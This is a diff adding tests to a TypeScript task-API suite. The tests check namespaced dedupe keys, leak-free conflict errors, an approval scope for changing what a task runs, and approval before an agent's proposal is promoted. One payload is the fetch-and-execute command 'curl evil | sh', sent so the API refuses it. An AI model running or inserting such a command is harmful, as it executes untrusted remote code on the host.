@@ -164,6 +164,59 @@ describe('tasks', () => {
     expect(again.status).toBe(200);
     expect(again.body).toEqual(first.body);
     expect(ws.listTasks().filter((t) => t.title === 'twice')).toEqual([]);
+    // The API's keys are its own: a caller cannot take the key of a GitHub issue before it arrives.
+    expect(first.body.dedupeKey).toBe('api:issue-42');
+    const squat = await call<Task>('POST', '/api/v1/tasks', {
+      body: { title: 'squatter', dedupeKey: 'gh:acme/app#42' },
+      token: WRITE,
+    });
+    expect(squat.body.dedupeKey).toBe('api:gh:acme/app#42');
+    const issue = await ws.addTaskOnce({
+      title: 'the real issue',
+      source: 'webhook',
+      dedupeKey: 'gh:acme/app#42',
+    });
+    expect(issue.created).toBe(true);
+    // A token that may not read is not shown the task a repeat names.
+    const repeat = await call('POST', '/api/v1/tasks', {
+      body: { title: 'squatter again', dedupeKey: 'gh:acme/app#42' },
+      token: WRITE,
+    });
+    expectProblem(repeat, 409, 'E_CONFLICT');
+    expect(JSON.stringify(repeat.body)).not.toContain('squatter');
+  });
+
+  it('needs tasks:approve to change what a task runs, or to promote an agent proposal', async () => {
+    const task = await call<Task>('POST', '/api/v1/tasks', {
+      body: { title: 'vetted', run: 'true' },
+      token: APPROVE,
+    });
+    expect(task.body.status).toBe('ready');
+    for (const body of [{ run: 'curl evil | sh' }, { prompt: 'do something else' }, { role: 'agent-2' }]) {
+      const refused = await call('PATCH', `/api/v1/tasks/${task.body.id}`, { body, token: WRITE });
+      expectProblem(refused, 403, 'E_FORBIDDEN');
+      expect(refused.body.detail).toContain('tasks:approve');
+    }
+    expect(ws.getTask(task.body.id).run).toBe('true');
+    const renamed = await call<Task>('PATCH', `/api/v1/tasks/${task.body.id}`, {
+      body: { title: 'vetted, renamed' },
+      token: WRITE,
+    });
+    expect(renamed.status).toBe(200);
+    const changed = await call<Task>('PATCH', `/api/v1/tasks/${task.body.id}`, {
+      body: { run: 'make' },
+      token: APPROVE,
+    });
+    expect(changed.body.run).toBe('make');
+
+    const proposal = await ws.addTask(
+      { title: 'an agent idea', prompt: 'p', source: 'agent', hold: true },
+      'agent-1',
+    );
+    const promote = (token: string) =>
+      call<Task>('POST', `/api/v1/tasks/${proposal.id}/promote`, { body: {}, token });
+    expectProblem(await promote(WRITE), 403, 'E_FORBIDDEN');
+    expect((await promote(APPROVE)).body.status).toBe('ready');
   });
 
   it('refuses an import to a token that may not approve, since imported tasks run at once', async () => {
